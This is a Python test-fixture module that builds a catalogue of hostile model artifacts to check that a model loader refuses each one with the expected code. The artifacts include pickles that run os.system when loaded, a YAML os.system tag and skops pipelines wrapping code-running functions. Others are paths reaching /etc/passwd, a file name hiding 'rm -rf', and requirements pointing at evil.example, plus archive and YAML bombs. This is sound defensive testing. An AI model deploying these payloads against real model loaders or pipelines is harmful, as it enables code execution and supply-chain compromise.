"""Models that somebody evil, or careless, would bring: each takes a good directory and spoils it.

The numbers are those of the catalogue. `ARTIFACTS` maps a name to (how it is spoiled, the code of its refusal).
"""

import gzip
import io
import json
import os
import pickle
import struct
import zipfile

import numpy as np
import onnx
import skops.io
import yaml
from onnx import TensorProto, helper
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import FunctionTransformer


class Evil:
    """Makes a file when it is unpickled."""

    def __init__(self, marker):
        self.marker = str(marker)

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def evil_pickle(directory, protocol=4):
    return pickle.dumps(Evil(directory.parent / "executed"), protocol)


def archive(**members):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in members.items():
            made.writestr(name.replace("__", "."), content)
    return stream.getvalue()


def with_mlmodel(change):
    def spoil(directory):
        file = directory / "MLmodel"
        told = yaml.safe_load(file.read_text())
        change(told)
        file.write_text(yaml.safe_dump(told))

    return spoil


def writes(name, content):
    def spoil(directory):
        path = directory / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content(directory) if callable(content) else content)

    return spoil


def replaces_text(name, old, new):
    def spoil(directory):
        file = directory / name
        assert old in file.read_text()
        file.write_text(file.read_text().replace(old, new))

    return spoil


def skops_with(function):
    """A model that calls a function of a library: numpy's test tools run code that they are given as text."""

    def spoil(directory):
        model = skops.io.load(directory / "model.skops", trusted=["sklearn.tree._tree.Tree"])
        skops.io.dump(make_pipeline(FunctionTransformer(function), model), directory / "model.skops")

    return spoil


def skops_member(name, content):
    def spoil(directory):
        with zipfile.ZipFile(directory / "model.skops", "a") as made:
            made.writestr(name, content(directory) if callable(content) else content)

    return spoil


def tree_that_leads_outside(directory):
    model = skops.io.load(directory / "model.skops", trusted=["sklearn.tree._tree.Tree"])
    state = model.estimators_[0].tree_.__getstate__()
    state["nodes"]["left_child"][0] = 1 << 40
    model.estimators_[0].tree_.__setstate__(state)
    skops.io.dump(model, directory / "model.skops")


def symbolic_link(directory):
    (directory / "secret.txt").symlink_to("/etc/hostname")


def hard_link(directory):
    (directory.parent / "elsewhere").write_text("x")
    os.link(directory.parent / "elsewhere", directory / "notes.txt")


def pipe(directory):
    os.mkfifo(directory / "notes.txt")


def many_files(directory):
    for number in range(1001):
        (directory / f"n{number}.txt").write_text("")


def huge_file(directory):
    with (directory / "n.txt").open("wb") as file:
        file.truncate(5 << 30)


def object_array(_):
    stream = io.BytesIO()
    np.save(stream, np.array([{}], dtype=object), allow_pickle=True)
    return stream.getvalue()


def onnx_model(*, domain="", version=18, external=False, function=False, inner=False):
    weights = helper.make_tensor("w", TensorProto.FLOAT, [1], [1.0])
    if external:
        weights.ClearField("float_data")
        weights.data_location = TensorProto.EXTERNAL
        weights.external_data.add(key="location", value="../../etc/passwd")
    node = (
        helper.make_node("Run", ["x"], ["y"], domain=domain) if domain else helper.make_node("Add", ["x", "w"], ["y"])
    )
    if inner:
        branch = helper.make_graph([helper.make_node("Run", [], ["z"], domain="evil")], "b", [], [])
        node = helper.make_node("If", ["x"], ["y"], then_branch=branch, else_branch=branch)
    value = helper.make_tensor_value_info
    graph = helper.make_graph(
        [node], "g", [value("x", TensorProto.FLOAT, [1])], [value("y", TensorProto.FLOAT, [1])], [weights]
    )
    opsets = [helper.make_opsetid("", version)] + ([helper.make_opsetid(domain, 1)] if domain else [])
    functions = [onnx.FunctionProto(name="f", domain="")] if function else []
    return helper.make_model(graph, opset_imports=opsets, functions=functions).SerializeToString()


def safetensors(header, data=b""):
    content = json.dumps(header).encode()
    return struct.pack("<Q", len(content)) + content + data


def sklearn(told):
    return told["flavors"]["sklearn"]


def python_function(told):
    return told["flavors"]["python_function"]


BOMB = "a: &a [x, x, x, x]\nb: &b [*a, *a, *a, *a]\nc: [*b, *b, *b, *b]\nflavors: {}\n"

ARTIFACTS = {
    "M01 pickle": (writes("model.pkl", evil_pickle), "PICKLE"),
    "M01 pickle of protocol 0": (writes("model.pickle", lambda d: evil_pickle(d, 0)), "PICKLE"),
    "M02 pickle called skops": (writes("model.skops", evil_pickle), "MAGIC"),
    "M02 pickle called JSON": (writes("notes.json", evil_pickle), "MAGIC"),
    "M03 archive in an archive": (skops_member("1.bin", lambda d: archive(a__pkl=evil_pickle(d))), "NESTED"),
    "M03 pickle in an archive": (skops_member("1.bin", evil_pickle), "NESTED"),
    "M03 compressed pickle in an archive": (skops_member("1.bin", lambda d: gzip.compress(evil_pickle(d))), "NESTED"),
    "M05 joblib": (writes("model.joblib", evil_pickle), "PICKLE"),
    "M05 compressed joblib": (writes("model.joblib", lambda d: gzip.compress(evil_pickle(d))), "PICKLE"),
    "M05 dill without a name": (writes("weights", evil_pickle), "PICKLE"),
    "M06 array of objects": (writes("weights.npy", object_array), "PICKLE"),
    "M06 array of objects in the profile": (writes("profile.npz", lambda d: archive(a__npy=object_array(d))), "PICKLE"),
    "M06 array of objects in skops": (skops_member("9.npy", object_array), "PICKLE"),
    "M07 torch": (writes("model.pt", lambda d: archive(data__pkl=evil_pickle(d))), "FORMAT"),
    "M09 loader": (with_mlmodel(lambda told: python_function(told).update(loader_module="evilmod")), "LOADER"),
    "M10 code": (with_mlmodel(lambda told: python_function(told).update(code="code")), "CODE"),
    "M10 code of sklearn": (with_mlmodel(lambda told: sklearn(told).update(code="code")), "CODE"),
    "M10 a folder of code": (writes("code/notes.txt", b"x"), "CODE"),
    "M10 a module": (writes("evilmod.py", b"import os"), "FORMAT"),
    "M10 a library": (writes("evil.so", b"\x7fELF"), "FORMAT"),
    "M11 path outside": (with_mlmodel(lambda told: sklearn(told).update(pickled_model="../model.skops")), "PATH"),
    "M11 absolute path": (with_mlmodel(lambda told: python_function(told).update(model_path="/etc/passwd")), "PATH"),
    "M11 path to nothing": (with_mlmodel(lambda told: sklearn(told).update(pickled_model="other.skops")), "PATH"),
    "M13 symbolic link": (symbolic_link, "LINK"),
    "M14 hard link": (hard_link, "LINK"),
    "M14 pipe": (pipe, "LINK"),
    "M21 newline in a name": (writes("a\nb.txt", b"x"), "NAME"),
    "M21 long name": (writes("n" * 210 + ".txt", b"x"), "NAME"),
    "M21 odd name": (writes("a;rm -rf.txt", b"x"), "NAME"),
    "M22 many files": (many_files, "COUNT"),
    "M23 large": (huge_file, "SIZE"),
    "M23 archive that unpacks to much": (writes("profile.npz", archive(a__json=b" " * 200_000_000)), "SIZE"),
    "M26 no MLmodel": (lambda d: (d / "MLmodel").unlink(), "MLMODEL"),
    "M27 aliases": (writes("MLmodel", BOMB.encode()), "MLMODEL"),
    "M27 tag": (writes("MLmodel", b"flavors: !!python/object/apply:os.system ['true']\n"), "MLMODEL"),
    "M27 key twice": (replaces_text("MLmodel", "  sklearn:\n", "  sklearn: {}\n  sklearn:\n"), "MLMODEL"),
    "M27 large": (writes("MLmodel", b"a: " + b"x" * 70_000), "MLMODEL"),
    "M27 deep": (writes("MLmodel", b"[" * 1000 + b"]" * 1000), "MLMODEL"),
    "M29 unknown flavor": (with_mlmodel(lambda told: told.update(flavors={"evil": {}})), "FLAVOR"),
    "M30 a second flavor": (with_mlmodel(lambda told: told["flavors"].update(pytorch={})), "FLAVOR"),
    "M01 kept as pickle": (with_mlmodel(lambda told: sklearn(told).update(serialization_format="pickle")), "PICKLE"),
    "M31 function that runs text": (skops_with(np.testing._private.utils.runstring), "UNTRUSTED"),
    "M31 function of Python": (skops_with(os.system), "UNTRUSTED"),
    "M31 function of ours": (skops_with(__import__("mlmon_dagster.errors").errors.Problem), "UNTRUSTED"),
    "M33 tensor in another file": (writes("m.onnx", onnx_model(external=True)), "PATH"),
    "M34 operators of others": (writes("m.onnx", onnx_model(domain="evil.corp")), "OPS"),
    "M34 operators of others inside": (writes("m.onnx", onnx_model(inner=True)), "OPS"),
    "M34 functions": (writes("m.onnx", onnx_model(function=True)), "OPS"),
    "M35 opset of tomorrow": (writes("m.onnx", onnx_model(version=999)), "OPSET"),
    "M35 no ONNX": (writes("m.onnx", b"\x08\x01garbage"), "MAGIC"),
    "M37 binary XGBoost": (writes("model.bin", b"binf\0\0\0"), "FORMAT"),
    "M38 safetensors header": (writes("m.safetensors", struct.pack("<Q", 1 << 60) + b"{}"), "CORRUPT"),
    "M39 safetensors overlap": (
        writes(
            "m.safetensors",
            safetensors({"a": {"data_offsets": [0, 8]}, "b": {"data_offsets": [4, 12]}}, bytes(12)),
        ),
        "CORRUPT",
    ),
    "M39 safetensors rest": (
        writes("m.safetensors", safetensors({"a": {"data_offsets": [0, 4]}}, bytes(9))),
        "CORRUPT",
    ),
    "M50 package of a URL": (writes("requirements.txt", b"numpy @ https://evil.example/numpy.whl\n"), "DEPS"),
    "M50 package of a repository": (writes("requirements.txt", b"git+https://evil.example/numpy\n"), "DEPS"),
    "M50 package of another index": (writes("requirements.txt", b"--index-url https://evil.example\n"), "DEPS"),
    "M50 any version": (writes("requirements.txt", b"numpy>=1\n"), "DEPS"),
    "skops that is no archive": (writes("model.skops", b"garbage"), "MAGIC"),
    "skops that is another archive": (writes("model.skops", archive(a__json=b"{}")), "MAGIC"),
    "member that leads outside": (skops_member("../../evil.npy", b"x"), "PATH"),
}  # fmt: skip
